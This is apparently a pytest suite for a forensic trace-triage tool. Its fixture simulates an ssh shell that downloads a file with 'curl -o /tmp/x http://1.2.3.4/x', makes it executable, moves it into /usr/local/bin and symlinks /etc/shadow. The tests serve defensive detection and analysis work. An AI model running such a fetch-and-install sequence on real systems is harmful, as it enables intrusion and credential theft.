"""`analyze info`, `analyze timeline`, `analyze explain`: the triage commands.

Traces are written with the real TraceWriter from a small hand-made story (a shell in an ssh
session downloads a file, makes it executable and moves it into place, while nginx runs in a
container), so every expected value is known. Traces with holes in `evt.num` and time, several
segments, a doctored footer, a corrupt and a foreign file cover the gap analysis and errors.
When the live scenario traces (tests/fixtures/scenarios/) are present, each is run through the
three commands as a smoke test.
"""

from __future__ import annotations

import io
import json
from collections.abc import Sequence
from pathlib import Path
from typing import Any

import pyarrow as pa
import pyarrow.parquet as pq
import pytest
from click.testing import CliRunner
from rich.console import Console, RenderableType

import cli
from analyze.trace_reader import TraceFormatError, open_trace
from analyze.triage_alert import pick, read_alert
from analyze.triage_db import TriageError
from analyze.triage_events import activity_of, summary
from analyze.triage_explain import explain
from analyze.triage_gaps import scan_gaps
from analyze.triage_info import summarize_trace
from analyze.triage_render import explain_report, fold_loader_reads, info_report
from analyze.triage_timeline import TimelineRequest, timeline
from capture.trace_writer import TraceWriter
from schemas.trace import SOURCE_IMPORT, TraceMeta, arrow_schema

START = 1_700_000_000_000_000_000
MS = 10**6
SECOND = 10**9
SCENARIOS = Path(__file__).resolve().parent / "fixtures" / "scenarios"

Row = dict[str, Any]


def write(path: Path, rows: Sequence[Row], source: str = "live",
          drops: dict[str, int] | None = None, row_group_rows: int = 65536) -> Path:
    schema = arrow_schema()
    names = list(dict.fromkeys(k for r in rows for k in r))
    table = pa.table({k: pa.array([r.get(k) for r in rows], schema.field(k).type) for k in names})
    meta = TraceMeta(source=source, hostname="web-1", kernel="6.1.0-test",
                     dropped=None if source == SOURCE_IMPORT else 0)
    with TraceWriter(path, meta, row_group_rows=row_group_rows) as writer:
        writer.write(table)
        writer.close(drops=drops if source != SOURCE_IMPORT else None)
    return path


# ---- the story --------------------------------------------------------------------------------

SYSTEMD = {"pid": 1, "name": "systemd", "exe": "/usr/lib/systemd/systemd", "cmd": "systemd"}
SSHD = {"pid": 100, "name": "sshd", "exe": "/usr/sbin/sshd", "cmd": "sshd: alice [priv]"}
BASH = {"pid": 200, "name": "bash", "exe": "/usr/bin/bash", "cmd": "bash -i"}
CURL = {"pid": 300, "name": "curl", "exe": "/usr/bin/curl",
        "cmd": "curl -o /tmp/x http://1.2.3.4/x"}
CHMOD = {"pid": 400, "name": "chmod", "exe": "/usr/bin/chmod", "cmd": "chmod +x /tmp/x"}
NGINX = {"pid": 500, "name": "nginx", "exe": "/usr/sbin/nginx", "cmd": "nginx -g daemon off;"}
CONTAINER = {"container.id": "abc123def456", "container.name": "web",
             "container.image": "nginx:1.25"}


def proc(p: dict[str, Any], chain: Sequence[dict[str, Any]], tid: int | None = None,
         user: tuple[int, str] = (1000, "alice")) -> Row:
    """The process columns of `p`, whose ancestors (parent first) are `chain`."""
    line = [p, *chain]
    return {
        "proc.pid": p["pid"], "thread.tid": tid or p["pid"], "proc.vpid": p["pid"],
        "proc.ppid": chain[0]["pid"] if chain else 0, "proc.name": p["name"],
        "proc.exepath": p["exe"], "proc.cmdline": p["cmd"],
        "proc.pcmdline": chain[0]["cmd"] if chain else None,
        "proc.apid": [x["pid"] for x in line], "proc.aname": [x["name"] for x in line],
        "proc.aexepath": [x["exe"] for x in line],
        "user.uid": user[0], "user.name": user[1], "container.id": "host",
        "container.name": "host",
    }


def ev(num: int, at_ms: int, etype: str, who: Row, res: str = "SUCCESS", rawres: int = 0,
       direction: str = "<", **more: Any) -> Row:
    row = {"evt.num": num, "evt.time": START + at_ms * MS, "evt.type": etype,
           "evt.dir": direction, "evt.res": res if direction == "<" else None,
           "evt.rawres": rawres, "evt.failed": res != "SUCCESS", **who}
    row.update({k.replace("__", "."): v for k, v in more.items()})
    return row


def story() -> list[Row]:
    sshd = proc(SSHD, [SYSTEMD], user=(0, "root"))
    bash = proc(BASH, [SSHD, SYSTEMD])
    bash_thread = proc(BASH, [SSHD, SYSTEMD], tid=201)
    bash_as_curl = {**proc(BASH, [SSHD, SYSTEMD]), "proc.pid": 300, "thread.tid": 300,
                    "proc.ppid": 200, "proc.apid": [300, 200, 100, 1]}
    curl = proc(CURL, [BASH, SSHD, SYSTEMD])
    chmod = proc(CHMOD, [BASH, SSHD, SYSTEMD])
    nginx = {**proc(NGINX, [SYSTEMD], user=(33, "www-data")), **CONTAINER}
    f = "fd.typechar"
    return [
        ev(1, 0, "openat", sshd, fd__name="/etc/passwd", evt__is_open_read=True, **{f: "f"}),
        ev(2, 100, "execve", bash),
        ev(3, 200, "openat", bash_thread, fd__name="/home/alice/.bash_history",
           evt__is_open_read=True, evt__is_open_write=True, **{f: "f"}),
        ev(4, 300, "openat", nginx, fd__name="/var/www/index.html", evt__is_open_read=True,
           **{f: "f"}),
        ev(5, 1000, "clone", bash, rawres=300),
        ev(6, 1001, "clone", bash_as_curl, rawres=0),
        ev(7, 1100, "execve", curl),
        ev(8, 1150, "openat", curl, fd__name="/lib/x86_64-linux-gnu/libc.so.6",
           evt__is_open_read=True, **{f: "f"}),
        ev(9, 1200, "connect", curl, fd__name="10.0.0.5:40000->1.2.3.4:80", **{f: "4"}),
        ev(10, 1300, "openat", curl, fd__name="/tmp/x", evt__is_open_write=True, **{f: "f"}),
        ev(11, 1400, "write", curl, rawres=4096, fd__name="/tmp/x", **{f: "f"}),
        ev(12, 1500, "write", curl, rawres=4096, fd__name="/tmp/x", **{f: "f"}),
        ev(13, 1600, "write", curl, rawres=100, fd__name="/tmp/x", **{f: "f"}),
        ev(14, 1650, "write", curl, rawres=10, fd__name="pipe:[1234]", **{f: "p"}),
        ev(15, 1700, "procexit", curl, direction=">", res=""),
        ev(16, 2000, "clone", bash, rawres=400),
        ev(17, 2100, "execve", chmod),
        ev(18, 2200, "fchmodat", chmod, evt__arg__filename="/tmp/x", evt__arg__mode="0755"),
        ev(19, 2300, "rename", bash, evt__arg__oldpath="/tmp/x",
           evt__arg__newpath="/usr/local/bin/x"),
        ev(20, 2400, "unlink", bash, res="ENOENT", rawres=-2, evt__arg__path="/tmp/y"),
        ev(21, 2500, "symlinkat", bash, evt__arg__target="/etc/shadow",
           evt__arg__linkpath="/tmp/s"),
        ev(22, 2600, "openat", nginx, fd__name="/var/www/index.html", evt__is_open_read=True,
           **{f: "f"}),
        ev(23, 2700, "accept4", nginx, fd__name="1.2.3.9:5555->10.0.0.5:80", **{f: "4"}),
        # a later process that reuses pid 300: not part of curl's story
        ev(24, 3000, "clone", bash, rawres=300),
        ev(25, 3100, "execve", {**curl, "proc.name": "sleep", "proc.cmdline": "sleep 1"}),
        ev(26, 3200, "openat", {**curl, "proc.name": "sleep"}, fd__name="/etc/reused",
           evt__is_open_read=True, **{f: "f"}),
    ]


@pytest.fixture
def trace(tmp_path: Path) -> Path:
    return write(tmp_path / "story.parquet", story())


def run_cli(*args: str, stdin: str | None = None) -> tuple[int, str]:
    result = CliRunner().invoke(cli.analyze, list(args), input=stdin)
    return result.exit_code, result.output


def render(renderable: RenderableType, width: int = 150) -> str:
    console = Console(file=io.StringIO(), width=width, color_system=None)
    console.print(renderable)
    out = console.file
    assert isinstance(out, io.StringIO)
    return out.getvalue()


# ---- event lines ------------------------------------------------------------------------------


def test_summaries() -> None:
    rows = {r["evt.num"]: r for r in story()}
    assert summary(rows[3]) == "/home/alice/.bash_history (read/write)"
    assert summary(rows[5]) == "new process or thread 300"
    assert summary(rows[6]) == "(the child's side)"
    assert summary(rows[7]) == CURL["cmd"]
    assert summary(rows[9]) == "10.0.0.5:40000->1.2.3.4:80"
    assert summary(rows[15]) == "process exited"
    assert summary(rows[18]) == "/tmp/x mode 0755"
    assert summary(rows[19]) == "/tmp/x -> /usr/local/bin/x"
    assert summary(rows[20]) == "/tmp/y"
    assert summary(rows[21]) == "/tmp/s -> /etc/shadow"
    assert activity_of(rows[14]) is None  # a write to a pipe is not file activity
    assert activity_of(rows[11]) == ("write", "/tmp/x")
    # an enter event says what its arguments say
    assert summary({"evt.type": "read", "evt.dir": ">", "evt.args": "fd=3  size=10"}) == (
        "fd=3 size=10")


# ---- analyze info -----------------------------------------------------------------------------


def test_info(trace: Path) -> None:
    s = summarize_trace(trace, top=3)
    assert (s.events, s.start_ns, s.end_ns) == (26, START, START + 3200 * MS)
    assert [(c.key, c.events) for c in s.by_type] == [("openat", 7), ("clone", 4), ("execve", 4)]
    assert s.other_type_events == 26 - 15 and s.types == 11
    assert (s.processes, s.threads) == (5, 6)  # systemd has no event of its own
    top = s.top_processes[0]  # curl and the later process reusing its pid: latest name shown
    assert (top.pid, top.name, top.events) == (300, "sleep", 12)
    assert [(c.id, c.name, c.image, c.events) for c in s.containers] == [
        ("host", "host", "", 23), ("abc123def456", "web", "nginx:1.25", 3)]
    assert [(u.key, u.label, u.events) for u in s.users] == [
        ("1000", "alice", 22), ("33", "www-data", 3), ("0", "root", 1)]
    assert not s.gaps.suspicious and s.gaps.num_gaps == 0 and s.findings == []
    assert [(g.events, g.first_num, g.last_num) for g in s.segments] == [(26, 1, 26)]
    text = render(info_report(s))
    assert "None: evt.num is continuous" in text and "nginx:1.25" in text


def test_info_cli_json(trace: Path) -> None:
    code, out = run_cli("info", str(trace), "--format", "json", "--top", "2")
    assert code == 0, out
    data = json.loads(out)
    assert data["events"] == 26 and data["hostnames"] == ["web-1"]
    assert data["by_type"] == {"openat": 7, "clone": 4}
    assert data["gaps"]["suspicious"] is False and data["dropped"] == 0
    code, out = run_cli("info", str(trace))
    assert code == 0 and "analyze info" in out and "Gaps" in out


def numbered(nums: Sequence[int], times_ms: Sequence[int]) -> list[Row]:
    who = proc(BASH, [SYSTEMD])
    return [ev(n, t, "openat", who, fd__name=f"/f{n}") for n, t in zip(nums, times_ms,
                                                                     strict=True)]


def test_gaps_in_numbers_and_time(tmp_path: Path) -> None:
    # holes after 3 and 8; 10 s of silence before 20; a step back in time does no harm
    rows = numbered([1, 2, 3, 7, 8, 20, 21], [0, 100, 90, 200, 300, 10_300, 10_400])
    path = write(tmp_path / "holes.parquet", rows, row_group_rows=2)  # gaps across row groups
    g = scan_gaps(open_trace(path))
    assert (g.num_gaps, g.missing_nums, g.disorders) == (2, 3 + 11, 0)
    assert [(x.after, x.before, x.missing) for x in g.num_gap_list] == [(3, 7, 3), (8, 20, 11)]
    assert g.time_gaps == 1
    t = g.time_gap_list[0]
    assert (t.start_ns, t.end_ns, t.after_num, t.before_num) == (
        START + 300 * MS, START + 10_300 * MS, 8, 20)
    assert g.suspicious and not g.expected_num_gaps
    assert scan_gaps(open_trace(path), threshold_ns=20 * SECOND).time_gaps == 0
    text = render(info_report(summarize_trace(path)))
    assert "Gaps: possible loss or tampering" in text
    assert "after 8, before 20: 11 missing" in text and "rows removed" in text


def test_live_trace_missing_its_start(tmp_path: Path) -> None:
    """Noted, not flagged: a later segment of a rotated capture starts the same way."""
    path = write(tmp_path / "t.parquet", numbered([5, 6], [0, 1]))
    g = scan_gaps(open_trace(path))
    assert (g.missing_start, g.num_gaps, g.suspicious) == (4, 0, False)
    assert "the first event is evt.num 5; the 4 before it" in render(
        info_report(summarize_trace(path)))


def test_imported_trace_gaps_are_expected(tmp_path: Path) -> None:
    path = write(tmp_path / "imp.parquet", numbered([29, 30, 200], [0, 1, 2]),
                 source=SOURCE_IMPORT)
    g = scan_gaps(open_trace(path))
    assert (g.num_gaps, g.expected_num_gaps, g.suspicious) == (1, True, False)  # 29 is no gap
    assert "expected in an imported capture" in render(info_report(summarize_trace(path)))


def test_segments_and_spliced_files(tmp_path: Path) -> None:
    segs = tmp_path / "segs"
    segs.mkdir()
    write(segs / "segment-00001.parquet", numbered([1, 2, 3], [0, 10, 20]))
    write(segs / "segment-00002.parquet", numbered([4, 5, 9], [30, 40, 50]))
    s = summarize_trace(segs)
    assert s.events == 6 and len(s.segments) == 2
    assert [(x.first_num, x.last_num, x.events) for x in s.segments] == [(1, 3, 3), (4, 9, 3)]
    assert [(x.after, x.before) for x in s.gaps.num_gap_list] == [(5, 9)]
    assert "Segments" in render(info_report(s))
    # segments named out of order are read in capture order: no false alarm
    reversed_order = [segs / "segment-00002.parquet", segs / "segment-00001.parquet"]
    assert scan_gaps(open_trace(reversed_order)).disorders == 0
    # a third file repeating numbers: spliced, not one capture
    write(segs / "segment-00003.parquet", numbered([8, 10], [60, 70]))
    g = scan_gaps(open_trace(segs))
    assert g.disorders == 1 and (g.disorder_list[0].previous, g.disorder_list[0].num) == (9, 8)
    assert g.disorder_list[0].file.endswith("segment-00003.parquet")


def test_footer_that_disagrees_with_rows(tmp_path: Path) -> None:
    path = write(tmp_path / "t.parquet", numbered([1, 2, 3], [0, 1, 2]))
    table = pq.read_table(path).slice(0, 2)  # two rows left, the footer still says three
    meta = pq.ParquetFile(path).metadata.metadata
    pq.write_table(table.replace_schema_metadata(meta), path)
    findings = summarize_trace(path).findings
    assert any("footer says 3 events, the file holds 2" in f for f in findings)
    assert any("time range" in f for f in findings)


@pytest.mark.parametrize("command", ["info", "timeline", "explain"])
def test_corrupt_and_foreign_files(tmp_path: Path, command: str) -> None:
    bad = tmp_path / "bad.parquet"
    bad.write_bytes(b"not parquet at all")
    foreign = tmp_path / "foreign.parquet"
    pq.write_table(pa.table({"a": [1]}), foreign)
    extra = ["--evt", "1"] if command == "explain" else []
    code, out = run_cli(command, str(bad), *extra)
    assert code == 1 and "not a readable Parquet file" in out and "Traceback" not in out
    code, out = run_cli(command, str(foreign), *extra)
    assert code == 1 and "not a sysreplay trace" in out
    with pytest.raises(TraceFormatError):
        summarize_trace(foreign)


# ---- analyze timeline -------------------------------------------------------------------------


def nums(t: Any) -> list[int]:
    return [e.num for e in t.events]


def test_timeline_filters(trace: Path) -> None:
    assert nums(timeline(trace, TimelineRequest(pids=(200,)))) == [2, 3, 5, 16, 19, 20, 21, 24]
    assert nums(timeline(trace, TimelineRequest(pids=(201,)))) == [3]  # a thread by its id
    tree = nums(timeline(trace, TimelineRequest(pids=(200,), tree=True)))
    assert {6, 7, 9, 17, 18, 25} <= set(tree) and 1 not in tree and 4 not in tree
    for container in ("web", "abc123def456", "abc123def456" + "0" * 52):
        t = timeline(trace, TimelineRequest(containers=(container,)))
        assert nums(t) == ([4, 22, 23] if len(container) <= 12 else []), container
    assert nums(timeline(trace, TimelineRequest(types=("rename", "unlink")))) == [19, 20]
    window = TimelineRequest(since="+1s", until=str(START + 1200 * MS))
    assert nums(timeline(trace, window)) == [5, 6, 7, 8, 9]
    iso = TimelineRequest(since="2023-11-14T22:13:22.5Z", types=("openat",))
    assert nums(timeline(trace, iso)) == [22, 26]


def test_timeline_pages(trace: Path) -> None:
    page = timeline(trace, TimelineRequest(limit=5))
    assert (nums(page), page.matched, page.more, page.next_num) == ([1, 2, 3, 4, 5], 26, 21, 6)
    page2 = timeline(trace, TimelineRequest(limit=5, from_num=page.next_num))
    assert nums(page2)[0] == 6 and page2.matched == 21
    last = timeline(trace, TimelineRequest(from_num=25))
    assert (nums(last), last.more, last.next_num) == ([25, 26], 0, None)
    with pytest.raises(ValueError, match="--since is after --until"):
        timeline(trace, TimelineRequest(since="+2s", until="+1s"))
    with pytest.raises(ValueError, match="--type opnat: no such event type"):
        timeline(trace, TimelineRequest(types=("opnat", "openat")))


def test_timeline_cli_formats(trace: Path) -> None:
    code, out = run_cli("timeline", str(trace), "--pid", "300", "--limit", "3")
    assert code == 0, out
    assert "curl(300)" in out and "… 9 more; the next page starts with --from-evt 9." in out
    code, out = run_cli("timeline", str(trace), "--type", "unlink,rename", "--format", "text")
    assert out.splitlines() == [
        "2023-11-14T22:13:22.300000000Z 19 host bash(200) < rename /tmp/x -> /usr/local/bin/x",
        "2023-11-14T22:13:22.400000000Z 20 host bash(200) < unlink /tmp/y [ENOENT]",
    ]
    code, out = run_cli("timeline", str(trace), "--container", "web", "--format", "json")
    data = json.loads(out)
    assert data["matched"] == 3 and data["filters"]["containers"] == ["web"]
    assert data["events"][2]["summary"] == "1.2.3.9:5555->10.0.0.5:80"
    code, out = run_cli("timeline", str(trace), "--tree")
    assert code == 2 and "--tree needs --pid" in out


# ---- analyze explain --------------------------------------------------------------------------


def test_explain_tree_and_activity(trace: Path) -> None:
    x = explain(trace, 10, before_ns=5 * SECOND, after_ns=5 * SECOND)
    assert x.event.summary == "/tmp/x (write)" and x.event.pid == 300
    assert [(n.pid, n.name) for n in x.ancestry] == [
        (1, "systemd"), (100, "sshd"), (200, "bash"), (300, "curl")]
    assert x.ancestry[2].cmdline == "bash -i" and x.ancestry[2].exec_num == 2
    assert x.ancestry[-1].exec_num == 7 and x.ancestry[0].events == 0
    assert (x.born_num, x.ended_num) == (6, 15)  # the child's side of the clone, its procexit
    assert x.descendants == ()  # chmod is bash's child, not curl's
    got = [(a.phase, a.kind, a.item, a.count, a.result) for a in x.activity]
    assert got == [
        ("before", "exec", CURL["cmd"], 1, ""),
        ("before", "open", "/lib/x86_64-linux-gnu/libc.so.6 (read)", 1, ""),
        ("before", "connect", "10.0.0.5:40000->1.2.3.4:80", 1, ""),
        ("after", "write", "/tmp/x", 3, ""),
    ]  # the later process reusing pid 300 (evt 25, 26) is left out


def test_explain_descendants(trace: Path) -> None:
    x = explain(trace, 2, before_ns=SECOND, after_ns=10 * SECOND)  # bash's exec
    assert [(d.pid, d.name, d.parent) for d in x.descendants] == [
        (300, "sleep", 200), (400, "chmod", 200)]
    kinds = [(a.pid, a.kind, a.item, a.result) for a in x.activity]
    assert (200, "rename", "/tmp/x -> /usr/local/bin/x", "") in kinds
    assert (200, "unlink", "/tmp/y", "ENOENT") in kinds
    assert (200, "link", "/tmp/s -> /etc/shadow", "") in kinds
    assert (400, "chmod", "/tmp/x mode 0755", "") in kinds
    assert (300, "write", "/tmp/x", "") in kinds
    assert all(a.pid != 500 for a in x.activity)  # nginx is no descendant
    text = render(explain_report(x))
    assert "◀ the event's process" in text and "chmod (400)" in text
    assert text.index("systemd (1)") < text.index("sshd (100)") < text.index("bash (200)")


def test_explain_pid_namespaces(tmp_path: Path) -> None:
    """A fork in a container returns the child's pid in the container (its vpid): it is the
    birth of that child, not of the host process that has the same number."""
    host = {**proc({"pid": 2, "name": "kworker", "exe": "", "cmd": "kworker"}, [SYSTEMD])}
    nginx = {**proc(NGINX, [SYSTEMD]), **CONTAINER, "proc.vpid": 1}
    child = {**proc({"pid": 600, "name": "sh", "exe": "/bin/sh", "cmd": "sh"}, [NGINX]),
             **CONTAINER, "proc.vpid": 2}
    path = write(tmp_path / "ns.parquet", [
        ev(1, 0, "openat", host, fd__name="/etc/a", evt__is_open_read=True),
        ev(2, 100, "clone", nginx, rawres=2),
        ev(3, 200, "openat", host, fd__name="/etc/b", evt__is_open_read=True),
        ev(4, 300, "openat", child, fd__name="/etc/c", evt__is_open_read=True),
    ])
    x = explain(path, 3)
    assert x.born_num is None and [a.first_num for a in x.activity] == [1]
    assert explain(path, 4).born_num == 2


def test_explain_window(trace: Path) -> None:
    x = explain(trace, 19, before_ns=150 * MS, after_ns=150 * MS)  # the rename
    # the child's chmod 100 ms before, the unlink 100 ms after; its exec (200 ms before) is out
    assert [a.first_num for a in x.activity] == [18, 20]
    assert x.window_start_ns == START + 2150 * MS


def test_explain_unknown_event(trace: Path) -> None:
    with pytest.raises(TriageError, match=r"No event has evt.num 999 .* numbered 1 to 26"):
        explain(trace, 999)
    code, out = run_cli("explain", str(trace), "--evt", "999")
    assert code == 1 and "No event has evt.num 999" in out
    code, out = run_cli("explain", str(trace))
    assert code == 2 and "give --evt N or --alert" in out


def alert_line(num: int | None, time_ns: int | None, rule: str = "Write below tmp") -> str:
    fields: dict[str, Any] = {"proc.name": "curl"}
    if num is not None:
        fields["evt.num"] = num
    if time_ns is not None:
        fields["evt.time"] = time_ns
    return json.dumps({"hostname": "web-1", "output": "x", "output_fields": fields,
                       "priority": "Error", "rule": rule, "source": "syscall", "tags": [],
                       "time": "2023-11-14T22:13:21.300000000Z"})


def test_alert_parsing(tmp_path: Path) -> None:
    ref = read_alert(alert_line(10, START))
    assert (ref.evt_num, ref.time_ns, ref.rule, ref.where) == (10, START, "Write below tmp",
                                                               "the --alert text")
    path = tmp_path / "alerts.json"
    path.write_text(alert_line(7, None) + "\n\n" + alert_line(10, None, "Second") + "\n")
    with pytest.raises(TriageError, match=r"holds 2 alerts; pick one with --index N \(1 to 2\)"):
        read_alert(str(path))
    second = read_alert(str(path), 2)
    assert (second.evt_num, second.rule, second.where) == (10, "Second", f"{path} line 3")
    with pytest.raises(TriageError, match="--index 3"):
        read_alert(str(path), 3)
    assert read_alert("-", None, io.StringIO(alert_line(7, None))).evt_num == 7
    with pytest.raises(TriageError, match="not JSON"):
        pick(["{oops"], None, "x")
    with pytest.raises(TriageError, match="names no event"):
        pick(['{"output_fields": {}}'], None, "x")
    with pytest.raises(TriageError, match="not a number"):
        pick(['{"output_fields": {"evt.num": [1]}}'], None, "x")
    with pytest.raises(TriageError, match="no such file"):
        read_alert(str(tmp_path / "missing.json"))


def test_explain_from_alert(trace: Path, tmp_path: Path) -> None:
    code, out = run_cli("explain", str(trace), "--alert", alert_line(10, START + 1300 * MS),
                        "--format", "json")
    assert code == 0, out
    data = json.loads(out)
    assert data["event"]["evt.num"] == 10 and data["alert"]["rule"] == "Write below tmp"
    assert [n["proc.pid"] for n in data["ancestry"]] == [1, 100, 200, 300]
    assert data["window"]["born_num"] == 6
    # the same evt.num at another time: the alert comes from another trace
    code, out = run_cli("explain", str(trace), "--alert", alert_line(10, START))
    assert code == 1 and "is not from" in out
    # Falco's own alerts lack evt.num: the event is found by its exact time
    code, out = run_cli("explain", str(trace), "--alert", "-", "--format", "json",
                        stdin=alert_line(None, None))
    assert code == 0, out
    assert json.loads(out)["event"]["evt.num"] == 10
    code, out = run_cli("explain", str(trace), "--evt", "1", "--index", "2")
    assert code == 2 and "--index picks an alert" in out


def test_explain_table(trace: Path) -> None:
    code, out = run_cli("explain", str(trace), "--evt", "10", "--before", "5s", "--after", "5s")
    assert code == 0, out
    assert "Event 10" in out and "curl (300)" in out and "Before: 5.00s" in out
    assert "(the process was created at evt.num 6)" in out
    assert "(the process ended at evt.num 15)" in out


def test_fold_loader_reads(trace: Path) -> None:
    x = explain(trace, 9, before_ns=5 * SECOND, after_ns=0)
    folded = fold_loader_reads(x.activity)
    assert [a.item for a in folded if a.kind == "open"] == ["1 libraries and locale files (read)"]
    assert len(folded) == len(x.activity)


# ---- real captures ----------------------------------------------------------------------------


@pytest.fixture(scope="module")
def imported(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Path]:
    from fixtures_traces import imported_traces

    return imported_traces(tmp_path_factory)


def test_imported_capture(imported: dict[str, Path]) -> None:
    """falco__psp_write_tmp_test: bash in an nginx container opens /tmp/test (evt 116)."""
    path = imported["falco__psp_write_tmp_test"]
    x = explain(path, 116)
    assert x.event.summary == "/tmp/test (write)"
    assert [n.name for n in x.ancestry] == ["systemd", "containerd", "containerd-shim", "bash"]
    assert x.details["container.image"] == "nginx"
    t = timeline(path, TimelineRequest(containers=("hopeful_taussig",)))
    assert [(e.num, e.dir) for e in t.events] == [(115, ">"), (116, "<")]
    s = summarize_trace(path)
    assert s.info.sources == ("import",) and s.info.dropped is None
    assert s.containers[0].image == "nginx" and not s.gaps.suspicious


# ---- live scenario traces, when present -------------------------------------------------------


def scenario_traces() -> list[Path]:
    return sorted(SCENARIOS.glob("*.parquet")) if SCENARIOS.is_dir() else []


@pytest.mark.parametrize("path", scenario_traces() or [None], ids=lambda p: p.stem if p else "none")
def test_scenario_traces(path: Path | None) -> None:
    if path is None:
        pytest.skip(f"no live scenario traces in {SCENARIOS}")
    s = summarize_trace(path)
    assert s.events == s.info.events and not s.findings
    assert s.gaps.num_gaps == 0 and s.gaps.disorders == 0  # a finished live capture has no hole
    page = timeline(path, TimelineRequest(types=("execve",), limit=1))
    if page.events:
        x = explain(path, page.events[0].num)
        assert x.ancestry and x.ancestry[-1].pid == page.events[0].pid
